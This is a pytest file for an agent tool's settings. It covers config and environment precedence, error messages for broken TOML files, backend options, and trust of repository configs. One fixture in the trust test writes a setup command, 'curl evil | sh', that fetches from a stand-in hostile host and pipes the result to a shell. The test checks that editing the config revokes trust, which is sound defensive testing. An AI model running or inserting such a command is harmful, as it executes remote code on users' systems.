"""User settings: the config file's values, and a broken file explained instead of a traceback."""

from __future__ import annotations

from pathlib import Path

import pytest

from clover_agent.errors import ExitCode, UsageError
from clover_agent.launch import (
    BackendOptions,
    backend_factory,
    check_backend_options,
    model_sources,
    sandbox_spec,
)
from clover_agent.settings import (
    DEFAULT_SANDBOX_IMAGE,
    Settings,
    config_digest,
    repo_settings,
    set_trust,
    trusted_digest,
)
from tests.cli_process import run_cli


def write_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str) -> Path:
    path = tmp_path / "config.toml"
    path.write_text(text)
    monkeypatch.setenv("CLOVER_CONFIG", str(path))
    for name in ("CLOVER_SANDBOX_IMAGE", "CLOVER_BASE_URL", "CLOVER_HOME"):
        monkeypatch.delenv(name, raising=False)
    return path


def test_values_come_from_the_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_config(
        tmp_path,
        monkeypatch,
        'home = "/srv/clover"\n[model]\npath = "/models/clover"\n[sandbox]\nimage = "mine:1"\n'
        '[openai]\nbase_url = "http://gpu:30000/v1"\n',
    )
    settings = Settings.load()
    assert (settings.home, settings.model_path) == (Path("/srv/clover"), "/models/clover")
    assert (settings.sandbox_image, settings.base_url) == ("mine:1", "http://gpu:30000/v1")
    monkeypatch.setenv("CLOVER_SANDBOX_IMAGE", "env:2")  # the environment wins
    assert Settings.load().sandbox_image == "env:2"


def test_an_empty_file_gives_the_defaults(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_config(tmp_path, monkeypatch, "")
    settings = Settings.load()
    assert settings.sandbox_image == DEFAULT_SANDBOX_IMAGE and settings.model_path is None


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("image = = 1\n", "not a readable TOML file (Invalid value"),
        ("[sandbox]\nimage = 5\n", "[sandbox] image must be a string (got 5)"),
        ("sandbox = 5\n", "sandbox must be a table ([sandbox])"),
        ("home = true\n", "home must be a string (got True)"),
    ],
)
def test_a_broken_file_is_named_with_what_is_wrong(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str, message: str
) -> None:
    path = write_config(tmp_path, monkeypatch, text)
    with pytest.raises(UsageError) as error:
        Settings.load()
    assert error.value.message.startswith(f"{path}: {message}")


def test_commands_report_a_broken_file_without_a_traceback(tmp_path: Path) -> None:
    path = tmp_path / "config.toml"
    path.write_text("[sandbox]\nimage = 5\n")
    done = run_cli("doctor", env={"CLOVER_CONFIG": str(path)})
    assert done.returncode == ExitCode.USAGE
    assert done.stderr == f"clover-agent: {path}: [sandbox] image must be a string (got 5)\n"


def test_every_variable_is_read_here_and_handed_down(tmp_path: Path) -> None:
    """The environment is read once, by the settings; what the engine, the backends and the
    sandboxes need is passed to them from there."""
    env = {
        "CLOVER_CONFIG": str(tmp_path / "none.toml"),
        "CLOVER_MODEL": "/models/from-env",
        "OPENAI_API_KEY": "openai-key",
        "HF_HOME": str(tmp_path / "hf"),
        "DOCKER_HOST": "tcp://docker.example:2376",
        "DOCKER_CERT_PATH": "/certs",
        "PATH": "/usr/bin",
    }
    settings = Settings.load(env)
    assert settings.api_key == "openai-key"
    assert Settings.load({**env, "CLOVER_API_KEY": "clover-key"}).api_key == "clover-key"  # preferred
    assert settings.hf_hub_cache == tmp_path / "hf" / "hub"
    assert Settings.load({**env, "HF_HUB_CACHE": str(tmp_path / "hub")}).hf_hub_cache == tmp_path / "hub"
    assert settings.docker_env == {"DOCKER_HOST": "tcp://docker.example:2376", "DOCKER_CERT_PATH": "/certs"}
    sources = model_sources(settings, None)
    assert (sources.from_env, sources.hf_hub_cache) == ("/models/from-env", tmp_path / "hf" / "hub")
    assert model_sources(settings, "/explicit").explicit == "/explicit"
    spec = sandbox_spec(settings, tmp_path)
    assert spec.host_env == env and spec.env == {}  # the local sandbox's commands inherit the environment
    assert sandbox_spec(settings, tmp_path, host_env={"PATH": "/bin"}).host_env == {"PATH": "/bin"}


def test_cuda_graphs_can_be_turned_off(tmp_path: Path) -> None:
    """CUDA graphs are the engine's default on a GPU; CLOVER_CUDA_GRAPHS=0 or ``[model] cuda_graphs
    = false`` turns them off (the environment wins; tests/clover_agent/test_backend_engine.py: the
    backend a front end builds gets it)."""
    env = {"CLOVER_CONFIG": str(tmp_path / "none.toml")}
    assert Settings.load(env).cuda_graphs is None  # the engine decides: on with a CUDA device
    off = Settings.load({**env, "CLOVER_CUDA_GRAPHS": "0"})
    assert off.cuda_graphs is False and Settings.load({**env, "CLOVER_CUDA_GRAPHS": "On"}).cuda_graphs
    with pytest.raises(UsageError, match="CLOVER_CUDA_GRAPHS='sometimes': use 1 or 0"):
        Settings.load({**env, "CLOVER_CUDA_GRAPHS": "sometimes"})
    config = tmp_path / "config.toml"
    config.write_text("[model]\ncuda_graphs = false\n")
    assert Settings.load({"CLOVER_CONFIG": str(config)}).cuda_graphs is False
    assert Settings.load({"CLOVER_CONFIG": str(config), "CLOVER_CUDA_GRAPHS": "1"}).cuda_graphs is True
    config.write_text('[model]\ncuda_graphs = "no"\n')
    with pytest.raises(UsageError, match=r"\[model\] cuda_graphs must be true or false \(got 'no'\)"):
        Settings.load({"CLOVER_CONFIG": str(config)})


def test_the_expert_format_comes_from_the_option_then_the_environment_then_the_file(tmp_path: Path) -> None:
    """A front end's option, else CLOVER_EXPERTS, else ``[model] experts``, else "auto" (as stored);
    a value the loader does not know is refused naming where it came from, before any work."""
    from clover_agent.launch import engine_experts

    config = tmp_path / "config.toml"
    env = {"CLOVER_CONFIG": str(config)}
    engine = BackendOptions("engine")
    assert engine_experts(engine, Settings.load(env)) == "auto"
    config.write_text('[model]\nexperts = "fp8"\n')
    assert engine_experts(engine, Settings.load(env)) == "fp8"
    assert engine_experts(engine, Settings.load({**env, "CLOVER_EXPERTS": "int4"})) == "int4"
    own = BackendOptions("engine", engine_options={"experts": "dense"})
    assert engine_experts(own, Settings.load({**env, "CLOVER_EXPERTS": "int4"})) == "dense"
    with pytest.raises(UsageError, match="CLOVER_EXPERTS = 'int3': choose one of auto, dense, fp8, int4"):
        engine_experts(engine, Settings.load({**env, "CLOVER_EXPERTS": "int3"}))
    config.write_text('[model]\nexperts = "q4"\n')
    with pytest.raises(UsageError, match=r"config.toml: \[model\] experts = 'q4': choose one of"):
        check_backend_options(engine, Settings.load(env))


def test_where_the_engine_puts_the_experts(tmp_path: Path) -> None:
    """A front end's option, else CLOVER_EXPERTS_ON, else ``[model] experts_on``, else "device"; a
    place the loader does not have is refused naming where it was set."""
    from clover_agent.launch import engine_experts_on

    config = tmp_path / "config.toml"
    env = {"CLOVER_CONFIG": str(config)}
    engine = BackendOptions("engine")
    assert engine_experts_on(engine, Settings.load(env)) == "device"
    config.write_text('[model]\nexperts_on = "host"\n')
    assert engine_experts_on(engine, Settings.load(env)) == "host"
    assert engine_experts_on(engine, Settings.load({**env, "CLOVER_EXPERTS_ON": "device"})) == "device"
    own = BackendOptions("engine", engine_options={"experts_on": "host"})
    assert engine_experts_on(own, Settings.load({**env, "CLOVER_EXPERTS_ON": "device"})) == "host"
    with pytest.raises(UsageError, match="CLOVER_EXPERTS_ON = 'gpu': choose one of device, host"):
        engine_experts_on(engine, Settings.load({**env, "CLOVER_EXPERTS_ON": "gpu"}))
    config.write_text('[model]\nexperts_on = "cpu"\n')
    with pytest.raises(UsageError, match=r"config.toml: \[model\] experts_on = 'cpu': choose one of"):
        engine_experts_on(engine, Settings.load(env))


def test_the_openai_backend_gets_the_key_from_the_settings(tmp_path: Path) -> None:
    settings = Settings.load({"CLOVER_CONFIG": str(tmp_path / "none.toml"), "CLOVER_API_KEY": "k1"})
    options = BackendOptions("openai", base_url="http://127.0.0.1:9/v1", model_name="clover")
    check_backend_options(options, settings)
    backend = backend_factory(options, settings)()
    assert (backend.name, backend.api_key) == ("openai:clover@127.0.0.1:9", "k1")
    with pytest.raises(UsageError, match="needs --base-url"):
        check_backend_options(BackendOptions("openai"), settings)
    with pytest.raises(UsageError, match="needs --replay FILE"):
        check_backend_options(BackendOptions("replay"), settings)


def test_the_users_own_folder_is_not_the_cache(tmp_path: Path) -> None:
    no_file = {"CLOVER_CONFIG": str(tmp_path / "none.toml")}
    assert Settings.load({**no_file, "XDG_STATE_HOME": "/state"}).record_key_path == Path(
        "/state/clover-agent/record.key"
    )
    assert Settings.load({**no_file, "CLOVER_STATE": "/mine"}).trust_file == Path("/mine/trusted-repos.json")
    assert Settings.load({**no_file, "XDG_CACHE_HOME": "/cache"}).state != Path("/cache/clover-agent")


def test_a_repository_config_is_used_whole_only_once_trusted(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".clover").mkdir(parents=True)
    (repo / "wheelhouse").mkdir()
    (repo / ".clover" / "config.toml").write_text(
        '[sandbox]\nimage = "theirs:1"\nsetup = ["make"]\npackages = ["x"]\nwheels = "wheelhouse"\n'
        'extras = ["test"]\n[fix]\nregression = "related"\n'
    )
    untrusted = repo_settings(repo)
    assert untrusted.ignored == ("setup", "image", "packages", "wheels")
    assert (untrusted.image, untrusted.setup, untrusted.packages, untrusted.wheels) == (None, [], (), None)
    assert untrusted.extras == ("test",) and untrusted.regression == "related"  # these need no trust
    trusted = repo_settings(repo, trusted=True)
    assert (trusted.image, trusted.setup, trusted.ignored) == ("theirs:1", ["make"], ())
    assert trusted.wheels == str((repo / "wheelhouse").resolve())

    settings = Settings.load(
        {"CLOVER_CONFIG": str(tmp_path / "none.toml"), "CLOVER_STATE": str(tmp_path / "s")}
    )
    assert trusted_digest(settings, repo) is None
    set_trust(settings, repo, config_digest(repo))
    assert trusted_digest(settings, repo) == config_digest(repo)  # keyed by the resolved path
    (repo / ".clover" / "config.toml").write_text('[sandbox]\nsetup = ["make", "curl evil | sh"]\n')
    assert trusted_digest(settings, repo) != config_digest(repo)  # a changed file is another file
    set_trust(settings, repo, None)
    assert trusted_digest(settings, repo) is None


@pytest.mark.parametrize(
    ("line", "expected"),
    [("test_timeout = 30", 30.0), ("test_timeout = 0", None), ("test_timeout = true", None)],
)
def test_the_per_test_timeout_is_read_from_the_fix_table(
    tmp_path: Path, line: str, expected: float | None
) -> None:
    (tmp_path / ".clover").mkdir()
    (tmp_path / ".clover" / "config.toml").write_text(f"[fix]\nsuite_timeout = 900\n{line}\n")
    if expected is None:
        with pytest.raises(UsageError, match=r"\[fix\] test_timeout must be a number of seconds above 0"):
            repo_settings(tmp_path)
    else:
        settings = repo_settings(tmp_path)  # needs no trust: it only bounds the project's own tests
        assert (settings.suite_timeout, settings.test_timeout) == (900.0, expected)
